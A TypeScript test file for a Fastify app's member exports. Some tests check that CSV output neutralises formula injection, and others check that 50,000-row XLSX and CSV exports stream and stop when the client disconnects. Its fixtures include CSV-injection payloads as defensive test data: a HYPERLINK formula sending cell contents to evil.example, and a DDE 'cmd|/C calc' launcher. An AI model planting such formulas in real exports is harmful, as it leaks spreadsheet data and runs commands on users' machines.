/**
 * Member exports are streamed (issue 14, defect 6): a large export leaves the server answering,
 * a client that leaves stops it, an XLSX over Excel's row limit is refused up front. And every
 * CSV export neutralises formula-like text (defect 11).
 */
import { get as httpGet, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from './support/test-app.js';
import { tableToCsv } from '../src/domain/reports/export-csv.js';
import { memberExportsRunning, prepareMembersExport } from '../src/domain/reports/members-export.js';
import { AppError } from '../src/errors/app-error.js';
import type { Database } from '../src/storage/database.js';
import { ENGINES } from './engines.js';

const PARTNER_COLUMNS = 'id, name, role_customer, role_supplier, role_competitor, role_other, legal_form, region_id, deleted';

const HOSTILE_NAMES = {
  f1: '=HYPERLINK("http://evil.example/?x="&A1,"x")',
  f2: "@SUM(1+1)*cmd|' /C calc'!A0",
  f3: '+1+cmd',
  f4: '-2+3+cmd',
  f5: '\t=1+1',
  n1: '-5',
  n2: '+3.25',
  ok: 'ООО "Ромашка"; склад',
} as const;

describe.each(ENGINES)('CSV exports neutralise formulas on $name', (engine) => {
  let db: Database;
  let app: FastifyInstance;
  beforeAll(async () => {
    db = await engine.create();
    app = await buildTestApp({ db });
    const values = Object.entries(HOSTILE_NAMES).map(([id], i) => `('${id}', $${i + 1}, TRUE, FALSE, FALSE, FALSE, 'company', NULL, FALSE)`);
    await db.run(`INSERT INTO partners (${PARTNER_COLUMNS}) VALUES ${values.join(', ')}`, Object.values(HOSTILE_NAMES));
    expect((await app.inject({ method: 'POST', url: '/api/segments', payload: { id: 'hostile', name: 'Hostile', method: 'manual' } })).statusCode).toBe(201);
    expect((await app.inject({ method: 'POST', url: '/api/segments/hostile/members', payload: { ids: Object.keys(HOSTILE_NAMES) } })).statusCode).toBe(200);
  });
  afterAll(async () => {
    await app.close();
    await db.close();
  });

  it('prefixes cells starting with = + - @ or a tab with a quote in members.csv; numbers stay numbers', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/segments/hostile/members.csv' });
    expect(res.statusCode).toBe(200);
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const nameOf = (id: string) => {
      const line = lines.find((l) => l.startsWith(`${id},`))!;
      return line.slice(id.length + 1, line.indexOf(',customer') > 0 ? line.lastIndexOf(',customer') : undefined);
    };
    expect(nameOf('f1')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`);
    expect(nameOf('f2')).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    expect(nameOf('f3')).toBe(`'+1+cmd`);
    expect(nameOf('f4')).toBe(`'-2+3+cmd`);
    expect(nameOf('f5')).toBe(`"'\t=1+1"`);
    expect(nameOf('n1')).toBe('-5');
    expect(nameOf('n2')).toBe('+3.25');
    expect(nameOf('ok')).toBe('"ООО ""Ромашка""; склад"');
  });

  it('does the same in report CSVs, where numbers of number columns are left alone', () => {
    const csv = tableToCsv({
      name: 't',
      title: 'T',
      columns: [
        { key: 'name', title: '=title', type: 'text' },
        { key: 'value', title: 'value', type: 'number' },
      ],
      rows: [
        { name: '=1+1', value: -5 },
        { name: '-5', value: -0.25 },
      ],
      total: 2,
    });
    expect(csv.replace(/^\uFEFF/, '').split('\r\n')).toEqual(["'=title,value", "'=1+1,-5", '-5,-0.25', '']);
  });
});

const duckdb = ENGINES.find((e) => e.name === 'duckdb')!;

describe('a 50,000-member export on duckdb', () => {
  const MEMBERS = 50_000;
  let db: Database;
  let app: TestApp;
  let port: number;
  beforeAll(async () => {
    db = await duckdb.create();
    await db.run(
      `INSERT INTO partners (${PARTNER_COLUMNS}) SELECT 'p' || lpad(CAST(i AS VARCHAR), 6, '0'), 'Партнёр ' || CAST(i AS VARCHAR), TRUE, FALSE, FALSE, FALSE, 'company', NULL, FALSE FROM range(${MEMBERS}) t(i)`,
    );
    app = await buildTestApp({ db });
    const created = await app.inject({
      method: 'POST',
      url: '/api/segments',
      payload: { id: 'all', name: 'Все', method: 'dynamic', rule: { attr: 'deleted', op: 'eq', value: false } },
    });
    expect(created.statusCode, created.body).toBe(201);
    await app.listen({ port: 0, host: '127.0.0.1' });
    port = (app.server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await app.close();
    await db.close();
  });

  const open = (path: string) =>
    new Promise<IncomingMessage>((resolve, reject) => httpGet({ host: '127.0.0.1', port, path, headers: { authorization: `Bearer ${app.testKey}` } }, resolve).on('error', reject));

  it('keeps /api/health answering while it streams the workbook', async () => {
    const started = Date.now();
    let firstByteAt: number | null = null;
    let done = false;
    const chunks: Buffer[] = [];
    const response = open('/api/segments/all/members.xlsx').then(
      (res) =>
        new Promise<number>((resolve) => {
          res.on('data', (chunk: Buffer) => {
            firstByteAt ??= Date.now();
            chunks.push(chunk);
          });
          res.on('end', () => {
            done = true;
            resolve(res.statusCode ?? 0);
          });
        }),
    );
    // Health checks from the moment the export is asked for until its last byte.
    const latencies: { at: number; ms: number }[] = [];
    while (!done) {
      const t0 = Date.now();
      const health = await app.inject({ method: 'GET', url: '/api/health' });
      expect(health.statusCode).toBe(200);
      if (!done) latencies.push({ at: t0, ms: Date.now() - t0 });
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    expect(await response).toBe(200);
    const whileStreaming = latencies.filter((l) => firstByteAt !== null && l.at >= firstByteAt);
    const ms = latencies.map((l) => l.ms).sort((a, b) => a - b);
    console.log(
      `members.xlsx of ${MEMBERS}: ${Date.now() - started} ms, first byte after ${firstByteAt! - started} ms, ${chunks.reduce((n, c) => n + c.length, 0)} bytes; ` +
        `/api/health answered ${latencies.length} times during it (${whileStreaming.length} while the file streamed), median ${ms[Math.floor(ms.length / 2)]} ms, max ${ms[ms.length - 1]} ms`,
    );
    // The file is written while it is made, and the server answers other requests meanwhile.
    expect(whileStreaming.length).toBeGreaterThanOrEqual(3);
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(MEMBERS + 1);
    expect(sheet.getRow(1).getCell(1).value).toBe('id');
    expect(sheet.getRow(2).getCell(1).value).toBe('p000000');
    expect(sheet.getRow(MEMBERS + 1).getCell(2).value).toBe(`Партнёр ${MEMBERS - 1}`);
  });

  it('streams the CSV whole', async () => {
    const res = await app.inject({ method: 'GET', url: '/api/segments/all/members.csv' });
    expect(res.statusCode).toBe(200);
    expect(res.body.trim().split('\r\n')).toHaveLength(MEMBERS + 1);
  });

  for (const format of ['xlsx', 'csv']) {
    it(`stops the ${format} export when the client goes away`, async () => {
      const res = await open(`/api/segments/all/members.${format}`);
      await new Promise((resolve) => res.once('data', resolve));
      expect(memberExportsRunning()).toBe(1);
      res.destroy();
      const t0 = Date.now();
      while (memberExportsRunning() > 0 && Date.now() - t0 < 10_000) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(memberExportsRunning()).toBe(0);
      expect((await app.inject({ method: 'GET', url: '/api/health' })).statusCode).toBe(200);
    });
  }

  it(`refuses an XLSX over Excel's row limit before writing anything`, async () => {
    const error = await prepareMembersExport(db, 'all', undefined, 1000).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('EXPORT_TOO_LARGE');
    expect((error as AppError).message).toContain('50000 members');
  });
});
